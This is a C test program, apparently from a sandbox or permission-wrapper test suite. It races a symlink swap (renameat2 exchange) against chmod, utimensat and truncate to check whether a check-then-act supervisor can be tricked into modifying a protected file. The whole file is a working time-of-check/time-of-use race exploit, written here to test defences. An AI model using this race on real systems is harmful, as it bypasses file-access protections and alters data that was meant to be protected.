/* write_race_symlink_meta: one thread keeps exchanging free/x between a
 * regular file and a symlink to ../protected/file while the main thread
 * calls chmod, utimensat and truncate on free/x. A supervisor that checks
 * the name and then performs the call by name (so the kernel follows the
 * symlink swapped in after the check) changes the protected file. Runs
 * until it wins, at most PERMWRAP_RACE_SECONDS.
 * Judged by: protected/ changing. */
#include "common.h"
#include <pthread.h>
static volatile int stop;
static void *swapper(void *arg)
{
	(void)arg;
	while (!stop)
		renameat2(AT_FDCWD, "free/x", AT_FDCWD, "free/y", RENAME_EXCHANGE);
	return NULL;
}
int main(void)
{
	pthread_t t;
	long ok = 0;
	struct timespec ts[2] = { { 1000000000, 0 }, { 1000000000, 0 } };
	struct stat before, now;
	if (check(stat("protected/file", &before), "stat protected/file") < 0)
		return 1;
	int fd = open("free/x", O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, "ALLOWED\n", 8) != 8)
		return note("create free/x: %s", strerror(errno)), 1;
	close(fd);
	if (check(symlink("../protected/file", "free/y"), "symlink free/y") < 0)
		return 1;
	pthread_create(&t, NULL, swapper, NULL);
	while (race_on()) {
		ok += chmod("free/x", 0600) == 0;
		ok += utimensat(AT_FDCWD, "free/x", ts, 0) == 0;
		ok += truncate("free/x", 3) == 0;
		if (stat("protected/file", &now) == 0 &&
		    (now.st_mode != before.st_mode || now.st_size != before.st_size ||
		     now.st_mtim.tv_sec != before.st_mtim.tv_sec || now.st_mtim.tv_nsec != before.st_mtim.tv_nsec))
			race_won();
	}
	stop = 1;
	pthread_join(t, NULL);
	race_done();
	note("%ld calls succeeded", ok);
	return 0;
}
